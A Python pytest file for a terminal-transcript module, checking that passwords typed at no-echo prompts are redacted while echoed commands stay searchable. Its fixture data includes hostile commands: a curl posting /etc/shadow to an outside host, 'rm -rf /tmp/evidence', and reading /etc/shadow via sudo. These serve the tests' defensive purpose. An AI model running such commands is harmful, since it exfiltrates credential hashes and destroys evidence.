"""A line typed at a prompt that does not echo (``[sudo] password:``, ``mysql -p``, ``su``, an ssh key's
passphrase, ``read -s``) is neither searchable text nor a command marker: the host never showed it,
so the transcript says only that something was typed there (terminal.transcript.echo). A command typed
with echo turned off at a shell's prompt is still searchable."""

from __future__ import annotations

import json

import pytest

from terminal import transcript
from terminal.transcript import time_at, transcript_from_bytes, transcript_from_events
from terminal.transcript.echo import NOT_SHOWN, asks_for_a_secret

SECRET = "Hunter2-Secret!"


def _markers(built: transcript.Transcript) -> list[str]:
    return [line for _, line in built.index["commands"]]


def test_password_typed_at_no_echo_prompt_is_not_in_the_transcript() -> None:
    """The review's case (its scratch test, kept)."""
    events = [
        [0.1, "o", "$ "],
        [0.5, "i", "sudo -k true\r"],
        [0.6, "o", "sudo -k true\r\n[sudo] password for rs-alice: "],
        # The host echoes nothing while the password is typed (ECHO off): only the newline follows.
        [1.0, "i", SECRET + "\r"],
        [1.1, "o", "\r\n$ "],
    ]
    built = transcript_from_events(events)
    assert SECRET not in built.output
    assert SECRET not in built.input, built.input
    assert not any(SECRET in line for line in _markers(built))
    assert built.input == f"sudo -k true\n{NOT_SHOWN}\n"
    assert _markers(built) == ["sudo -k true"]


def test_a_password_typed_a_key_at_a_time_with_a_typo_and_no_newline_after() -> None:
    """``read -s``: nothing echoed, not even the newline; the next prompt follows on the same line."""
    events: list[list[object]] = [[0.1, "o", "$ "], [0.2, "i", "read -sp 'Password: ' PW; echo got-${#PW}\r"]]
    events.append([0.3, "o", "read -sp 'Password: ' PW; echo got-${#PW}\r\nPassword: "])
    events += [[1.0 + n / 10, "i", key] for n, key in enumerate("Hunterx\x7f2-Secret!")]
    events += [[3.0, "i", "\r"], [3.1, "o", "got-15\r\n$ "]]
    events += [[4.0, "i", "l"], [4.01, "o", "l"], [4.1, "i", "s"], [4.11, "o", "s"], [4.2, "i", "\r"]]
    events += [[4.21, "o", "\r\nnotes.txt\r\n$ "]]
    built = transcript_from_events(events)
    assert "Hunter" not in built.input and "Secret" not in built.input
    assert built.input == f"read -sp 'Password: ' PW; echo got-${{#PW}}\n{NOT_SHOWN}\nls\n"
    assert _markers(built) == ["read -sp 'Password: ' PW; echo got-${#PW}", "ls"]
    # The index still finds each line's moment in the text as stored.
    assert time_at(built.index["i"], built.input.index(NOT_SHOWN)) == 1.0
    assert time_at(built.index["i"], built.input.index("ls\n")) == 4.0


def test_a_prompt_that_shows_stars_shows_nothing_of_the_password() -> None:
    events = [[0.1, "o", "Enter passphrase: "], [0.5, "i", "abc"], [0.6, "o", "***"]]
    events += [[0.7, "i", "def\r"], [0.8, "o", "***\r\nIdentity added\r\n$ "]]
    built = transcript_from_events(events)
    assert built.input == f"{NOT_SHOWN}\n" and _markers(built) == []


def test_a_password_still_being_typed_when_the_recording_ends_is_not_kept() -> None:
    built = transcript_from_events([[0.1, "o", "Password: "], [0.5, "i", SECRET]])
    assert built.input == NOT_SHOWN


def test_echoed_commands_keep_their_text_and_markers() -> None:
    """Echoed a key at a time, edited (the echo of a backspace and a redraw), completed with Tab, recalled
    with an arrow key: as before."""
    events = [
        [0.1, "o", "$ "],
        *[[0.2 + n / 100, code, key] for n, key in enumerate("ls -lz") for code in ("i", "o")],
        [0.5, "i", "\x7f"],
        [0.51, "o", "\b \b"],
        [0.6, "i", "a\r"],
        [0.61, "o", "a\r\ntotal 0\r\n$ "],
        [1.0, "i", "cat /etc/hostn\t"],
        [1.01, "o", "cat /etc/hostname "],
        [1.1, "i", "\r"],
        [1.11, "o", "\r\nweb-1\r\n$ "],
        [2.0, "i", "\x1b[A"],
        [2.01, "o", "cat /etc/hostname "],
        [2.1, "i", "\r"],
        [2.11, "o", "\r\nweb-1\r\n$ "],
    ]
    built = transcript_from_events(events)
    assert built.input == "ls -la  # typed: ls -lz⟨^?⟩a\ncat /etc/hostn\t\n  # typed: ⟨ESC[A⟩\n"
    assert _markers(built) == ["ls -la  # typed: ls -lz⟨^?⟩a", "cat /etc/hostn", "# typed: ⟨ESC[A⟩"]


def test_lines_pasted_at_once_are_echoed_after_the_output_of_those_before() -> None:
    """A paste: the shell echoes each line only when it reads it, after the previous command's output."""
    events = [
        [0.1, "o", "$ "],
        [0.5, "i", "ls\rpwd\recho done\r"],
        [0.6, "o", "ls\r\nfile-1\r\nfile-2\r\n$ "],
        [0.7, "o", "pwd\r\n/home/rs-alice\r\n$ echo done\r\ndone\r\n$ "],
    ]
    built = transcript_from_events(events)
    assert built.input == "ls\npwd\necho done\n"
    assert _markers(built) == ["ls", "pwd", "echo done"]


def test_a_password_pasted_with_its_enter_at_a_no_echo_prompt() -> None:
    events = [
        [0.1, "o", "$ "],
        [0.2, "i", "mysql -p\r"],
        [0.3, "o", "mysql -p\r\nEnter password: "],
        [1.0, "i", SECRET + "\r"],  # from a password manager
        [1.5, "o", "\r\nWelcome to the MySQL monitor.\r\nmysql> "],
        [2.0, "i", "select 1;\r"],
        [2.01, "o", "select 1;\r\n1\r\nmysql> "],
    ]
    built = transcript_from_events(events)
    assert built.input == f"mysql -p\n{NOT_SHOWN}\nselect 1;\n"
    assert _markers(built) == ["mysql -p", "select 1;"]


def test_a_password_sent_to_sudo_s_without_a_pty() -> None:
    """``ssh -T web-1`` then ``sudo -S cat /etc/shadow``: no pty, no echo of anything, the prompt on stderr.
    A line typed at no such prompt is kept: input with no echo (``ssh -T web-1 < script``) is data."""
    lines = [[0.1, "i", "echo one\rsudo -S cat /etc/shadow\r"], [0.2, "o", "one\r\n[sudo] password for rs-alice: "]]
    lines += [[1.0, "i", "hunter2-x\r"], [1.1, "o", "\r\nroot:*:19000:0:99999:7:::\r\n"], [2.0, "i", "exit\r"]]
    body = b"".join(json.dumps(line).encode() + b"\n" for line in lines)
    built = transcript_from_bytes(json.dumps({"version": 2, "env": {}}).encode() + b"\n" + body)
    assert built.input == f"echo one\nsudo -S cat /etc/shadow\n{NOT_SHOWN}\nexit\n"
    assert _markers(built) == ["echo one", "sudo -S cat /etc/shadow", "exit"]


def test_commands_typed_with_echo_turned_off_at_a_shell_prompt_stay_searchable() -> None:
    """``stty -echo`` hides the commands from the screen, not from the transcript: only a line typed at
    a prompt asking for a secret is left out (a shell's prompt is not one, whatever directory it names)."""
    events = [
        [0.1, "o", "rs-alice@web-1:~/secrets$ "],
        [0.2, "i", "stty -echo\r"],
        [0.3, "o", "stty -echo\r\nrs-alice@web-1:~/secrets$ "],
        [1.0, "i", "curl -d @/etc/shadow https://example.com\r"],
        [1.5, "o", "\r\nok\r\nrs-alice@web-1:~/secrets$ "],
        [2.0, "i", "rm -rf /tmp/evidence\r"],
        [2.5, "o", "\r\nrs-alice@web-1:~/secrets$ "],
    ]
    built = transcript_from_events(events)
    assert built.input == "stty -echo\ncurl -d @/etc/shadow https://example.com\nrm -rf /tmp/evidence\n"
    assert _markers(built) == ["stty -echo", "curl -d @/etc/shadow https://example.com", "rm -rf /tmp/evidence"]


def test_a_password_pasted_with_the_command_that_asks_for_it() -> None:
    events = [
        [0.1, "o", "$ "],
        [0.5, "i", f"sudo -k true\r{SECRET}\rid\r"],
        [0.6, "o", "sudo -k true\r\n[sudo] password for rs-alice: "],
        [0.7, "o", "\r\n$ id\r\nuid=1001(rs-alice)\r\n$ "],
    ]
    built = transcript_from_events(events)
    assert built.input == f"sudo -k true\n{NOT_SHOWN}\nid\n"
    assert _markers(built) == ["sudo -k true", "id"]


@pytest.mark.parametrize(
    "prompt",
    [
        "[sudo] password for rs-alice: ",
        "Password: ",
        "rs-alice@web-1's password: ",
        "Enter passphrase for key '/home/rs-alice/.ssh/id_ed25519': ",
        "Enter pass phrase for key.pem:",
        "Password for user postgres: ",
        "Verification code: ",
        "[sudo] Passwort für rs-alice: ",
        "[sudo] Mot de passe de rs-alice : ",
        "[sudo] rs-alice 的密码\uff1a",  # a full-width colon
    ],
)
def test_prompts_for_a_secret(prompt: str) -> None:
    assert asks_for_a_secret(prompt)
    built = transcript_from_events([[0.1, "o", prompt], [0.5, "i", "s3cr3t-value\r"], [0.6, "o", "\r\n$ "]])
    assert built.input == f"{NOT_SHOWN}\n"


@pytest.mark.parametrize("prompt", ["$ ", "rs-alice@web-1:~/passwords$ ", "root@web-1:/srv/token# ", "mysql> "])
def test_prompts_not_for_a_secret(prompt: str) -> None:
    assert not asks_for_a_secret(prompt)


def test_a_typed_text_with_no_output_at_all_is_kept() -> None:
    """Nothing printed at all: nothing to tell an echo by (input-only events, as many tests give)."""
    built = transcript_from_events([[1.0, "i", "whoami\r"], [2.0, "i", "id\r"]])
    assert built.input == "whoami\nid\n" and _markers(built) == ["whoami", "id"]
